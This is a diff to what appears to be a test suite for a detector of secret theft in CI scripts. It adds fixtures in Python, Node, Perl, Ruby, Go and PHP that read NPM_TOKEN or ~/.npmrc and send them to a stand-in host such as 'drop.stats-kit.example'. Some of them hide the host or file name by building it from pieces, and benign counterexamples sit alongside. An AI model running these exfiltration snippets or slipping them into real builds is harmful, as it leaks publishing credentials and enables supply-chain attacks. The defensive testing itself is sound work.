@@ -37,6 +37,24 @@ requests.post(url, data=open(path).read())' n ${E}`,
     `${written('n')}cat > s.js <<'X'\nconst [, , url, file] = process.argv\nfetch(url, { method: 'POST', body: require('fs').readFileSync(file) })\nX\nnode s.js ${E} n`,
     `${written('n')}ruby -rnet/http -e 'Net::HTTP.post(URI(ARGV[1]), File.read(ARGV[0]))' n ${E}`,
   ],
+  'what a program asks its caller for': [
+    `${written('n')}cat > s.py <<'X'\nimport argparse, requests\np = argparse.ArgumentParser()\np.add_argument('url')\np.add_argument('--file', '-f')\na = p.parse_args()\nrequests.post(a.url, data=open(a.file).read())\nX\npython3 s.py -f n ${E}`,
+    python(
+      `import argparse, os, requests\np = argparse.ArgumentParser()\np.add_argument('--token', default=os.environ['NPM_TOKEN'])\nrequests.post('${E}', data=p.parse_args().token)`,
+    ),
+  ],
+  'a program that is started and written to': [
+    python(
+      `import os, subprocess\np = subprocess.Popen(['curl', '-d', '@-', '${E}'], stdin=subprocess.PIPE)\np.communicate(os.environ['NPM_TOKEN'].encode())`,
+    ),
+    node(`const p = require('child_process').spawn('curl', ['-d', '@-', '${E}'])\np.stdin.write(process.env.NPM_TOKEN)`),
+    `perl -e 'open(my $p, "|-", "curl -d @- ${E}"); print $p $ENV{NPM_TOKEN}; close $p'`,
+  ],
+  'a copy that a program makes': [
+    `${python(`import os, shutil\nopen('a', 'w').write(os.environ['NPM_TOKEN'])\nshutil.copy('a', 'b')`)}\ncurl -T b ${E}`,
+    `${python(`import os, shutil\nopen('d/x', 'w').write(os.environ['NPM_TOKEN'])\nshutil.make_archive('out', 'zip', 'd')`)}\ncurl -T out.zip ${E}`,
+    `${node(`const fs = require('fs')\nfs.writeFileSync('a', process.env.NPM_TOKEN)\nfs.renameSync('a', 'b')`)}\ncurl -T b ${E}`,
+  ],
   'a list of words': [
     written('n') + python(`import subprocess\ncmd = ['curl', '-T', 'n', '${E}']\nsubprocess.run(cmd, check=True)`),
     written('n') + python(`import subprocess as s\ncmd = ['curl']\ncmd += ['-F', 'f=@n']\ncmd.append('${E}')\ns.check_call(cmd)`),
@@ -70,6 +88,12 @@ requests.post(url, data=open(path).read())' n ${E}`,
       python(`import json, requests\nwith open('n.json') as f:\n    c = json.load(f)\nrequests.post('${E}', data=c['a'])`),
   ],
   'parts put together by a function': [
+    python(`import os, requests\nrequests.post('https://%s/%s' % ('drop.stats-kit.example', 'c'), data=os.environ['NPM_TOKEN'])`),
+    python(`import os, requests\nrequests.post('https://{}/{x}'.format('drop.stats-kit.example', x=1), data=os.environ['NPM_TOKEN'])`),
+    `cat > a.go <<'X'\npackage main\nfunc main() {\n  f, _ := os.OpenFile(os.Getenv("GITHUB_ENV"), os.O_APPEND, 0644)\n  fmt.Fprintf(f, "X=%s\\n", os.Getenv("NPM_TOKEN"))\n}\nX\ngo run a.go\ncurl -d "$X" ${E}`,
+    written('$HOME/.npmrc') +
+      node(`const f = require('os').homedir() + '/.' + ['n', 'p', 'm', 'r', 'c'].join('')\n${post("require('fs').readFileSync(f)")}`),
+    python(`import os, requests\nrequests.post('/'.join(['https:', '', 'drop.stats-kit.example']), data=os.environ['NPM_TOKEN'])`),
     `cat > a.go <<'X'\npackage main\nfunc main() {\n  http.Post("${E}", "text/plain", strings.NewReader(strings.Join(os.Environ(), "\\n")))\n}\nX\ngo run a.go`,
     `cat > A.java <<'X'\nclass A { void a() { new URL("${E}/?v=" + String.join("-", System.getenv("NPM_TOKEN"), "x")).openStream(); } }\nX\njava A.java`,
   ],
@@ -111,7 +135,13 @@ requests.post(url, data=open(path).read())' n ${E}`,
       `console.log(Buffer.from(v))`,
       `console.log(new TextEncoder().encode(v))`,
       `console.log(v.slice(0, 7), v.slice(7))`,
+      `for (let i = 0; i < v.length; i++) console.log(v[i])`,
+      `console.log(v.charAt(0), v.substring(1))`,
     ].map((each) => node(`const v = process.env.NPM_TOKEN\n${each}`)),
+    `ruby -e 'puts ENV["NPM_TOKEN"].chars.join(" ")'`,
+    `ruby -e 'ENV["NPM_TOKEN"].each_char { |c| puts c }'`,
+    `perl -e 'print join(" ", split(//, $ENV{NPM_TOKEN}))'`,
+    `php -r 'echo chunk_split(getenv("NPM_TOKEN"), 1, " ");'`,
   ],
 }
 
@@ -131,6 +161,21 @@ const honest: readonly string[] = [
     `import subprocess, os\nlogin = ['npm', 'config', 'set', '//registry.npmjs.org/:_authToken', os.environ['NPM_TOKEN']]\nping = ['curl', '-fsS', '${E}']\nsubprocess.run(login)\nsubprocess.run(ping)`,
   ),
   python(`import subprocess\ncmd = ['npm', 'publish']\ncmd += ['--tag', 'next']\nsubprocess.run(cmd, check=True)`),
+  `cat > s.py <<'X'\nimport argparse, requests\np = argparse.ArgumentParser()\np.add_argument('url')\np.add_argument('--token')\na = p.parse_args()\nrequests.get(a.url, headers={'Authorization': 'Bearer ' + a.token})\nX\npython3 s.py --token "$NPM_TOKEN" https://registry.npmjs.org/-/whoami`,
+  python(
+    `import os, subprocess\np = subprocess.Popen(['docker', 'login', '-u', 'us', '--password-stdin'], stdin=subprocess.PIPE)\np.communicate(os.environ['DOCKERHUB_TOKEN'].encode())`,
+  ),
+  python(
+    `import shutil, os\nopen('.npmrc', 'w').write('//registry.npmjs.org/:_authToken=' + os.environ['NPM_TOKEN'])\nshutil.copy('README.md', 'dist/README.md')`,
+  ) + `\ncurl -T dist/README.md ${E}`,
+  `${python(`import os\nprint(' '.join(k for k in os.environ if k.startswith('CI')))\nnames = [k for k in os.environ]\nprint(' '.join(names))`)}`,
+  // Templates.
+  python(
+    `import os, requests\nrequests.get('https://%s/-/%s' % ('registry.npmjs.org', 'whoami'), headers={'Authorization': 'Bearer %s' % os.environ['NPM_TOKEN']})`,
+  ),
+  python(
+    `import os, requests\nrequests.get('https://{}/-/whoami'.format('registry.npmjs.org'), headers={'Authorization': 'Bearer {}'.format(os.environ['NPM_TOKEN'])})`,
+  ),
   // Handles.
   `perl -e 'open(my $f, ">", ".npmrc"); print $f "//registry.npmjs.org/:_authToken=$ENV{NPM_TOKEN}"; close $f'\nnpm publish`,
   `ruby -e 'File.open("CHANGELOG.md", "w") { |f| f.puts "1.0" }'\ncurl -T CHANGELOG.md ${E}`,
@@ -167,6 +212,8 @@ const honest: readonly string[] = [
     `console.log(v.length, Boolean(v), v === '')`,
     `console.log(v.slice(0, 4) + '…' + v.slice(-4))`,
     `console.log(v.replace(/./g, '*'))`,
+    `console.log(v[0], v.charAt(0))`,
+    `const parts = v.split(',')\nfor (let i = 0; i < parts.length; i++) console.log(parts[i])`,
     `console.log(v.replace('https://', ''))`,
     `for (const host of v.split(',')) console.log(host)`,
     `console.log(/^npm_/.test(v))`,
@@ -200,6 +247,11 @@ for (const [script, after] of onWindows)
   test(`theft on Windows: ${script.replaceAll('\n', ' / ')}`, async () => assert.ok(await isMalicious(windows(script, after))))
 
 const honestOnWindows: readonly (readonly [string, string])[] = [
+  [
+    `$c = New-Object Net.WebClient\n$c.Headers['Authorization'] = "Bearer $env:NPM_TOKEN"\n$c.DownloadFile('https://registry.npmjs.org/x.tgz', 'x.tgz')`,
+    '',
+  ],
+  [`$l = New-Object System.Collections.ArrayList\n$l.Add('a')\n$l.Add($env:NPM_TOKEN)\nWrite-Host "$($l.Count) of them"`, ''],
   [`[IO.File]::WriteAllText('.npmrc', "//registry.npmjs.org/:_authToken=$env:NPM_TOKEN")\nnpm publish`, ''],
   [`Set-Content a.txt $env:NPM_TOKEN\nCopy-Item README.md b.txt\nirm ${E} -Method Post -InFile b.txt`, ''],
   [`Compress-Archive dist/* app.zip\nirm ${E} -Method Post -InFile app.zip`, ''],
